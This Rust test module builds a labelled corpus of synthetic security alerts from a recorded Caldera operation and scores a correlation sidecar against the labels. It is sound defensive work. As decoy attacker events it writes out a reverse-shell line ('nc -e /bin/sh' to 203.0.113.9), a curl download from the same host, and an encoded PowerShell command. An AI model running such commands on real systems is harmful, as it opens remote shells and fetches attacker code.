#![allow(dead_code)]
//! The labelled alert corpus: turns the recorded Caldera links (`operation_finished.json`, op A:
//! 26 links of the `sh` executor on host `vm`, each with its shell's pid and the victim-clock
//! `agent_reported_time`) into detection alerts in the shapes Elastic Security writes for
//! Elastic Defend (Linux and Windows), Sysmon via the Windows integration and auditd, each
//! labelled with the link that caused it or as "not a simulation". No network, deterministic.
//!
//! Windows and auditd need links on other hosts: two twins of op A are derived from the
//! recording by changing values only (ids, host, executor, pids, and the victim's clock), never
//! by adding fields Caldera does not have:
//! * `W` — host `WIN-LAB01`, executors `psh`/`cmd` alternating, victim clock 3 s *ahead*;
//!   alerts in the Elastic Defend Windows shape (psh links) and the Sysmon shape (cmd links);
//! * `X` — host `db01`, executor `sh`, victim clock 3 s *behind*, one link with pid `1` (the
//!   agent could not start it); alerts in the auditd shape (argv, no command line).
//!
//! Hard cases, each labelled: dash versus bash `exec` (the alert's pid is the shell's pid),
//! PowerShell's and cmd's quoting in the parent command line, `conhost.exe` started by the
//! shell, parallel links overlapping on one host (sandcat runs a beacon's instructions in
//! parallel: op A's links are replayed as if two ran at once), ±3 s victim clock skew,
//! timestamps truncated to whole seconds, pid 1, missing parent fields, host name case and
//! FQDN differences, pid reuse outside the window, a real attacker's process on the same host in
//! the same window (one even runs the same `whoami`), an alert an analyst already handled, and
//! malformed alerts (no uuid, a pid that is not a number, a 100 KB command line).

use serde_json::{Value, json};

use super::scenarios::fixture;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Shape {
    DefendLinux,
    DefendWindows,
    Sysmon,
    Auditd,
}

impl Shape {
    pub const ALL: [Shape; 4] = [
        Shape::DefendLinux,
        Shape::DefendWindows,
        Shape::Sysmon,
        Shape::Auditd,
    ];
    pub fn name(self) -> &'static str {
        match self {
            Shape::DefendLinux => "elastic-defend-linux",
            Shape::DefendWindows => "elastic-defend-windows",
            Shape::Sysmon => "sysmon-windows",
            Shape::Auditd => "auditd",
        }
    }
}

/// One alert with its label.
#[derive(Debug, Clone)]
pub struct Labelled {
    pub id: String,
    pub shape: Shape,
    /// The link that caused it; `None`: not a simulation.
    pub cause: Option<String>,
    /// Its process fields lead to the link's shell (what tier 1 can find).
    pub lineage: bool,
    /// An analyst acknowledged it before the sidecar ran.
    pub handled: bool,
    /// Malformed on purpose: must be skipped.
    pub malformed: bool,
    pub case: &'static str,
    pub source: Value,
}

pub struct Corpus {
    /// Caldera operations (the recording and its two twins) to serve from the stub.
    pub operations: Vec<Value>,
    pub alerts: Vec<Labelled>,
}

pub const OP_W_ID: &str = "a249d6e7-9272-7777-93d1-124e2e915a1c";
pub const OP_X_ID: &str = "a249d6e7-9272-8888-93d1-124e2e915a1c";

/// Replaces the third group of a UUID (keeps ids unique and valid).
fn twin_id(id: &str, group: &str) -> String {
    let mut parts: Vec<&str> = id.split('-').collect();
    if parts.len() == 5 {
        parts[2] = group;
    }
    parts.join("-")
}

fn shift(ts: &str, secs: i64) -> String {
    let t = time::OffsetDateTime::parse(ts, &time::format_description::well_known::Rfc3339)
        .expect("recorded timestamp");
    let t = t + time::Duration::seconds(secs);
    format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}Z",
        t.year(),
        u8::from(t.month()),
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

fn millis(ts: &str) -> i64 {
    let t = time::OffsetDateTime::parse(ts, &time::format_description::well_known::Rfc3339)
        .expect("timestamp");
    (t.unix_timestamp_nanos() / 1_000_000) as i64
}

fn iso(ms: i64) -> String {
    let t = time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(ms) * 1_000_000).unwrap();
    format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
        t.year(),
        u8::from(t.month()),
        t.day(),
        t.hour(),
        t.minute(),
        t.second(),
        t.millisecond()
    )
}

/// A twin of op A: new ids, another host, executor and pid range, the victim clock moved.
fn twin(op: &Value, group: &str, host: &str, pid_add: i64, skew_s: i64, windows: bool) -> Value {
    let mut op = op.clone();
    op["id"] = json!(twin_id(op["id"].as_str().unwrap(), group));
    op["name"] = json!(format!("{}-{}", op["name"].as_str().unwrap_or("op"), host));
    for (i, l) in op["chain"].as_array_mut().unwrap().iter_mut().enumerate() {
        let id = twin_id(l["id"].as_str().unwrap(), group);
        l["id"] = json!(id);
        l["unique"] = json!(id);
        l["host"] = json!(host);
        let pid: i64 = l["pid"].as_str().unwrap().parse().unwrap();
        l["pid"] = json!((pid + pid_add).to_string());
        let reported = l["agent_reported_time"].as_str().unwrap().to_string();
        l["agent_reported_time"] = json!(shift(&reported, skew_s));
        if windows {
            let (name, cmd) = if i % 2 == 0 {
                ("psh", windows_psh(l["plaintext_command"].as_str().unwrap()))
            } else {
                ("cmd", windows_cmd(l["plaintext_command"].as_str().unwrap()))
            };
            l["executor"]["name"] = json!(name);
            l["executor"]["platform"] = json!("windows");
            l["plaintext_command"] = json!(cmd);
            l["command"] = json!(cmd);
        }
    }
    op
}

/// The recorded Linux discovery commands as a Windows operator would write them (with the
/// quotes that make the shells' command lines interesting).
fn windows_psh(cmd: &str) -> String {
    match cmd.strip_prefix("ps aux | grep ") {
        Some(user) => format!(
            "Get-Process -IncludeUserName | Where-Object {{$_.UserName -like \"*{user}*\"}}"
        ),
        None => format!("Write-Output \"{}\"; whoami /all", cmd.replace('"', "'")),
    }
}

fn windows_cmd(cmd: &str) -> String {
    match cmd.strip_prefix("ps aux | grep ") {
        Some(user) => format!("tasklist /v | findstr /i \"{user}\""),
        None => "net user & whoami /priv".to_string(),
    }
}

struct LinkFacts {
    id: String,
    op: String,
    pid: i64,
    start_ms: i64,
    command: String,
    executor: String,
}

fn facts(op: &Value) -> Vec<LinkFacts> {
    op["chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| LinkFacts {
            id: l["id"].as_str().unwrap().to_string(),
            op: op["id"].as_str().unwrap().to_string(),
            pid: l["pid"].as_str().unwrap().parse().unwrap(),
            start_ms: millis(l["agent_reported_time"].as_str().unwrap()),
            command: l["plaintext_command"].as_str().unwrap().to_string(),
            executor: l["executor"]["name"].as_str().unwrap().to_string(),
        })
        .collect()
}

struct Builder {
    alerts: Vec<Labelled>,
}

impl Builder {
    #[allow(clippy::too_many_arguments)]
    fn push(
        &mut self,
        shape: Shape,
        cause: Option<&LinkFacts>,
        lineage: bool,
        case: &'static str,
        host: Value,
        time_ms: i64,
        truncate: bool,
        rule: &str,
        process: Value,
    ) -> &mut Labelled {
        let n = self.alerts.len();
        let id = format!("corpus-{n:04}-{}", shape.name());
        let t = if truncate {
            time_ms - time_ms % 1000
        } else {
            time_ms
        };
        let source = json!({
            "@timestamp": iso(t + 95_000),
            "kibana.alert.original_time": iso(t),
            "kibana.alert.uuid": id,
            "kibana.alert.rule.name": rule,
            "kibana.alert.rule.uuid": format!("rule-{}", rule.len()),
            "kibana.alert.workflow_status": "open",
            "kibana.alert.workflow_tags": [],
            "kibana.alert.status": "active",
            "event": {"kind": "signal", "module": match shape {
                Shape::DefendLinux | Shape::DefendWindows => "endpoint",
                Shape::Sysmon => "sysmon", Shape::Auditd => "auditd_manager"}},
            "host": host,
            "process": process,
        });
        self.alerts.push(Labelled {
            id,
            shape,
            cause: cause.map(|l| l.id.clone()),
            lineage,
            handled: false,
            malformed: false,
            case,
            source,
        });
        self.alerts.last_mut().unwrap()
    }
}

fn first_word(cmd: &str) -> String {
    cmd.split_whitespace().next().unwrap_or("x").to_string()
}

/// The whole labelled corpus.
pub fn corpus() -> Corpus {
    let a = fixture("operation_finished.json");
    let w = twin(&a, "7777", "WIN-LAB01", 20_000, 3, true);
    let mut x = twin(&a, "8888", "db01", 40_000, -3, false);
    // The agent could not start this one: Caldera reports pid 1.
    x["chain"][3]["pid"] = json!("1");
    // Sandcat runs one beacon's instructions in parallel: links 8 and 9 ran at the same time.
    for k in ["decide", "collect", "finish", "agent_reported_time"] {
        x["chain"][9][k] = x["chain"][8][k].clone();
    }
    // Links of W whose command ran 3 s (their alerts come late): the result arrived later.
    let mut w = w;
    for (i, l) in w["chain"].as_array_mut().unwrap().iter_mut().enumerate() {
        if i % 2 == 0 && i % 5 == 3 {
            let f = l["finish"].as_str().unwrap().to_string();
            l["finish"] = json!(shift(&f, 3));
        }
    }
    let mut b = Builder { alerts: Vec::new() };

    // --- Elastic Defend, Linux (op A on `vm`) ---
    let agent_pid = 9274;
    let la = facts(&a);
    for (i, l) in la.iter().enumerate() {
        let host = match i % 3 {
            0 => json!({"name": "vm", "hostname": "vm"}),
            1 => json!({"name": "VM", "hostname": "VM"}),
            _ => json!({"name": "vm.lab.example", "hostname": "vm"}),
        };
        let shell_e = format!("dl-{}", l.pid);
        let child_e = format!("dl-{}", l.pid + 1);
        let truncate = i % 3 == 1;
        let sh = format!("sh -c {}", l.command);
        if i % 4 == 0 {
            // bash-as-sh exec'd the command into the shell's own pid.
            b.push(Shape::DefendLinux, Some(l), true, "exec into the shell pid", host.clone(),
                l.start_ms + 120, truncate, "Account Discovery Command via Shell",
                json!({"pid": l.pid, "entity_id": shell_e, "command_line": l.command,
                       "parent": {"pid": agent_pid, "entity_id": "dl-agent", "command_line": "python3 /opt/agent/mini_agent.py"},
                       "Ext": {"ancestry": ["dl-agent"]}}));
        } else {
            b.push(Shape::DefendLinux, Some(l), true, "child of the shell", host.clone(),
                l.start_ms + 150, truncate, "Process Discovery via Built-In Tool",
                json!({"pid": l.pid + 1, "entity_id": child_e, "command_line": first_word(&l.command),
                       "parent": {"pid": l.pid, "entity_id": shell_e, "command_line": sh},
                       "Ext": {"ancestry": [shell_e, "dl-agent"]}}));
            if i % 5 == 1 {
                b.push(Shape::DefendLinux, Some(l), true, "grandchild through ancestry", host.clone(),
                    l.start_ms + 300, false, "Suspicious Grep",
                    json!({"pid": l.pid + 2, "entity_id": format!("dl-{}", l.pid + 2), "command_line": "grep x",
                           "parent": {"pid": l.pid + 1, "entity_id": child_e},
                           "Ext": {"ancestry": [child_e, shell_e, "dl-agent"]}}));
            }
        }
        if i % 6 == 2 {
            b.push(
                Shape::DefendLinux,
                Some(l),
                false,
                "missing parent fields",
                host.clone(),
                l.start_ms + 200,
                false,
                "Shell Command Line",
                json!({"command_line": sh}),
            );
        }
        if i == 7 {
            b.push(
                Shape::DefendLinux,
                Some(l),
                true,
                "already handled by an analyst",
                host.clone(),
                l.start_ms + 180,
                false,
                "Process Discovery via Built-In Tool",
                json!({"pid": l.pid + 5, "parent": {"pid": l.pid}, "command_line": "ps aux"}),
            )
            .handled = true;
        }
        if i % 8 == 3 {
            // The same pid long before: another process that happened to get it.
            b.push(
                Shape::DefendLinux,
                None,
                false,
                "pid reuse outside the window",
                host.clone(),
                l.start_ms - 600_000,
                false,
                "Process Discovery via Built-In Tool",
                json!({"pid": l.pid, "parent": {"pid": 1}, "command_line": "ps -ef"}),
            );
        }
        if i % 9 == 4 {
            b.push(Shape::DefendLinux, None, false, "attacker on the same host in the window", host.clone(),
                l.start_ms + 400, false, "Curl Piped to Shell",
                json!({"pid": 31337 + i as i64, "entity_id": "evil", "command_line": "curl -s http://203.0.113.9/x.sh",
                       "parent": {"pid": 31336, "entity_id": "evil-parent", "command_line": "bash -i"},
                       "Ext": {"ancestry": ["evil-parent"]}}));
        }
    }
    // The attacker runs the same `whoami` as link 0, in its window: only lineage tells them apart.
    b.push(Shape::DefendLinux, None, false, "attacker runs the link's own command", json!({"name": "vm"}),
        la[0].start_ms + 500, false, "Account Discovery Command via Shell",
        json!({"pid": 31000, "command_line": "whoami", "parent": {"pid": 30999, "command_line": "bash -i"}}));
    // An alert on another host at the same moment is never read.
    b.push(
        Shape::DefendLinux,
        None,
        false,
        "other host",
        json!({"name": "vm2.lab.example"}),
        la[0].start_ms + 100,
        false,
        "Account Discovery Command via Shell",
        json!({"pid": la[0].pid, "parent": {"pid": la[0].pid}, "command_line": "whoami"}),
    );
    // Malformed ones in the window: skipped, counted.
    let m = &la[1];
    let bad = [
        ("no alert uuid", json!({"pid": m.pid})),
        (
            "pid is not a number",
            json!({"pid": "abc", "parent": {"pid": m.pid}}),
        ),
        (
            "100 KB command line",
            json!({"pid": m.pid, "command_line": "A".repeat(100_000)}),
        ),
    ];
    for (case, p) in bad {
        let a = b.push(
            Shape::DefendLinux,
            None,
            false,
            case,
            json!({"name": "vm"}),
            m.start_ms + 100,
            false,
            "Malformed",
            p,
        );
        a.malformed = true;
        if case == "no alert uuid" {
            a.source
                .as_object_mut()
                .unwrap()
                .remove("kibana.alert.uuid");
        }
    }

    // --- Windows: Elastic Defend for psh links, Sysmon for cmd links (op W on WIN-LAB01) ---
    for (i, l) in facts(&w).iter().enumerate() {
        let psh = l.executor == "psh";
        let escaped = l.command.replace('"', "\\\"");
        if psh {
            let shell_cl = format!(
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy Bypass -C \"{escaped}\""
            );
            let host = if i % 4 == 0 {
                json!({"name": "win-lab01", "hostname": "WIN-LAB01"})
            } else {
                json!({"name": "WIN-LAB01.lab.example"})
            };
            let shell_e = format!("dw-{}", l.pid);
            b.push(
                Shape::DefendWindows,
                Some(l),
                true,
                "child of powershell",
                host.clone(),
                l.start_ms + 600,
                i % 3 == 0,
                "Windows Account or Group Discovery",
                json!({"pid": l.pid + 4, "entity_id": format!("dw-{}", l.pid + 4),
                       "command_line": "\"C:\\Windows\\system32\\whoami.exe\" /all",
                       "parent": {"pid": l.pid, "entity_id": shell_e, "command_line": shell_cl},
                       "Ext": {"ancestry": [shell_e, "dw-agent"]}}),
            );
            if i % 4 == 2 {
                b.push(Shape::DefendWindows, Some(l), true, "conhost.exe started by the shell", host.clone(),
                    l.start_ms + 80, false, "Unusual Console Host",
                    json!({"pid": l.pid + 8, "entity_id": format!("dw-{}", l.pid + 8),
                           "command_line": "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                           "parent": {"pid": l.pid, "entity_id": shell_e, "command_line": shell_cl},
                           "Ext": {"ancestry": [shell_e, "dw-agent"]}}));
            }
            if i % 6 == 4 {
                b.push(
                    Shape::DefendWindows,
                    Some(l),
                    false,
                    "powershell quoting, no parent fields",
                    host.clone(),
                    l.start_ms + 50,
                    false,
                    "PowerShell Suspicious Command",
                    json!({"command_line": shell_cl}),
                );
            }
            if i % 5 == 3 {
                // A child near the end of a link that ran 3 s; the victim's clock is 3 s ahead
                // of Caldera's, so only a window moved into the victim's clock holds it.
                b.push(
                    Shape::DefendWindows,
                    Some(l),
                    true,
                    "late child, victim clock 3 s ahead",
                    host.clone(),
                    l.start_ms + 2_800,
                    false,
                    "Windows Account or Group Discovery",
                    json!({"pid": l.pid + 9, "command_line": "net.exe localgroup administrators",
                           "parent": {"pid": l.pid, "command_line": shell_cl}}),
                );
            }
            if i == 8 {
                b.push(
                    Shape::DefendWindows,
                    None,
                    false,
                    "attacker on the same host in the window",
                    host,
                    l.start_ms + 300,
                    false,
                    "Encoded PowerShell",
                    json!({"pid": 7777, "command_line": "powershell.exe -enc SQBFAFgA",
                           "parent": {"pid": 7700, "command_line": "explorer.exe"}}),
                );
            }
        } else {
            let shell_cl = format!("cmd.exe /C \"{}\"", l.command.replace('&', "^&"));
            let host = json!({"name": "win-lab01.lab.example", "hostname": "win-lab01"});
            let guid = |p: i64| format!("{{5d3f{p:08x}-6a1b-{p:04x}-0000-001000000001}}");
            b.push(
                Shape::Sysmon,
                Some(l),
                true,
                "child of cmd.exe (Sysmon)",
                host.clone(),
                l.start_ms + 700,
                false,
                "Net User Enumeration",
                json!({"pid": l.pid + 3, "entity_id": guid(l.pid + 3), "command_line": "net  user",
                       "executable": "C:\\Windows\\System32\\net.exe",
                       "parent": {"pid": l.pid, "entity_id": guid(l.pid), "command_line": shell_cl,
                                  "executable": "C:\\Windows\\System32\\cmd.exe"}}),
            );
            if i % 4 == 1 {
                b.push(
                    Shape::Sysmon,
                    Some(l),
                    false,
                    "cmd caret escaping, parent pid missing",
                    host.clone(),
                    l.start_ms + 40,
                    false,
                    "Command Shell Activity",
                    json!({"command_line": shell_cl, "entity_id": guid(l.pid)}),
                );
            }
            if i % 8 == 3 {
                b.push(
                    Shape::Sysmon,
                    None,
                    false,
                    "pid reuse outside the window",
                    host,
                    l.start_ms + 900_000,
                    false,
                    "Net User Enumeration",
                    json!({"pid": l.pid + 3, "parent": {"pid": l.pid}, "command_line": "net user"}),
                );
            }
        }
    }

    // --- auditd (op X on db01, victim 3 s behind) ---
    for (i, l) in facts(&x).iter().enumerate() {
        let host = if i % 2 == 0 {
            json!({"name": "db01", "hostname": "DB01"})
        } else {
            json!({"hostname": "db01.prod.example"})
        };
        let args: Vec<&str> = l
            .command
            .split('|')
            .next()
            .unwrap_or("")
            .split_whitespace()
            .collect();
        if l.pid == 1 {
            // Nothing ran; a daemon started by init in that window is not the simulation.
            b.push(Shape::Auditd, None, false, "pid 1: the command never started", host,
                l.start_ms + 100, false, "Process Started by Init",
                json!({"pid": 5151, "parent": {"pid": 1}, "args": ["/usr/sbin/cron", "-f"], "title": "cron -f"}));
            continue;
        }
        b.push(Shape::Auditd, Some(l), true, "execve child of sh (auditd)", host.clone(),
            l.start_ms + 200, true, "Process Discovery via Built-In Tool",
            json!({"pid": l.pid + 1, "parent": {"pid": l.pid}, "args": args, "title": l.command.split('|').next().unwrap_or("").trim(),
                   "executable": format!("/usr/bin/{}", args.first().unwrap_or(&"x"))}));
        if i % 5 == 2 {
            b.push(
                Shape::Auditd,
                Some(l),
                false,
                "sh itself, pid not recorded",
                host.clone(),
                l.start_ms + 10,
                true,
                "Shell Execution",
                json!({"args": ["sh", "-c", l.command], "title": format!("sh -c {}", l.command)}),
            );
        }
        if i == 6 {
            b.push(Shape::Auditd, None, false, "attacker on the same host in the window", host,
                l.start_ms + 300, false, "Reverse Shell",
                json!({"pid": 6666, "parent": {"pid": 6600}, "args": ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]}));
        }
    }
    for a in b.alerts.iter_mut().filter(|a| a.handled) {
        a.source["kibana.alert.workflow_status"] = json!("acknowledged");
    }
    Corpus {
        operations: vec![a, w, x],
        alerts: b.alerts,
    }
}

/// The alert index's mapping: the fields the sidecar queries and sorts on typed as in Elastic
/// Security's alerts index; `process` kept in `_source` only, so deliberately malformed values
/// (a pid that is not a number) can be stored, as they can arrive from other pipelines.
pub fn alert_index_body() -> Value {
    json!({
        "settings": {"number_of_shards": 1, "number_of_replicas": 0},
        "mappings": {"dynamic": false, "properties": {
            "@timestamp": {"type": "date"},
            "kibana.alert.original_time": {"type": "date"},
            "kibana.alert.uuid": {"type": "keyword"},
            "kibana.alert.rule.name": {"type": "keyword"},
            "kibana.alert.rule.uuid": {"type": "keyword"},
            "kibana.alert.workflow_status": {"type": "keyword"},
            "kibana.alert.workflow_tags": {"type": "keyword"},
            "host": {"properties": {"name": {"type": "keyword"}, "hostname": {"type": "keyword"}}},
            "process": {"type": "object", "enabled": false}
        }}
    })
}

/// Creates `index` and stores the alerts (refreshed). `_id` = the alert's uuid-like id.
pub async fn index_alerts(url: &str, index: &str, alerts: &[Labelled]) {
    let http = reqwest::Client::new();
    let r = http
        .put(format!("{url}/{index}"))
        .json(&alert_index_body())
        .send()
        .await
        .unwrap();
    assert!(
        r.status().is_success(),
        "create {index}: {}",
        r.text().await.unwrap()
    );
    let mut body = String::new();
    for a in alerts {
        body.push_str(&json!({"index": {"_index": index, "_id": a.id}}).to_string());
        body.push('\n');
        body.push_str(&a.source.to_string());
        body.push('\n');
    }
    let r = http
        .post(format!("{url}/_bulk?refresh=true"))
        .header("content-type", "application/x-ndjson")
        .body(body)
        .send()
        .await
        .unwrap();
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["errors"], false, "bulk of alerts: {v}");
}

/// Precision and recall of the records the sidecar wrote, against the labels.
#[derive(Debug, Clone, Default)]
pub struct Score {
    pub matched: usize,
    pub correct: usize,
    pub relevant: usize,
    pub found: usize,
}

impl Score {
    pub fn precision(&self) -> f64 {
        if self.matched == 0 {
            1.0
        } else {
            self.correct as f64 / self.matched as f64
        }
    }
    pub fn recall(&self) -> f64 {
        if self.relevant == 0 {
            1.0
        } else {
            self.found as f64 / self.relevant as f64
        }
    }
}

/// Scores per tier set: `tiers` = the tiers counted as a match (e.g. `[1]`, `[1, 2]`);
/// `lineage_only` restricts the relevant set to alerts that carry lineage (tier 1's recall).
/// `records` are the correlation records' `_source`s.
pub fn score(
    alerts: &[Labelled],
    records: &[Value],
    tiers: &[u64],
    shape: Option<Shape>,
    lineage_only: bool,
) -> Score {
    use std::collections::{BTreeMap, BTreeSet};
    let mut matched: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    for r in records {
        if tiers.contains(&r["match"]["tier"].as_u64().unwrap_or(0)) {
            matched
                .entry(r["alert"]["uuid"].as_str().unwrap_or(""))
                .or_default()
                .insert(r["link_id"].as_str().unwrap_or(""));
        }
    }
    let mut s = Score::default();
    for a in alerts
        .iter()
        .filter(|a| shape.is_none_or(|sh| a.shape == sh) && !a.malformed)
    {
        let got = matched.get(a.id.as_str());
        let right = |links: &BTreeSet<&str>| a.cause.as_deref().is_some_and(|c| links.contains(c));
        if let Some(links) = got {
            s.matched += 1;
            if right(links) {
                s.correct += 1;
            }
        }
        if a.cause.is_some() && (!lineage_only || a.lineage) {
            s.relevant += 1;
            if got.is_some_and(right) {
                s.found += 1;
            }
        }
    }
    s
}
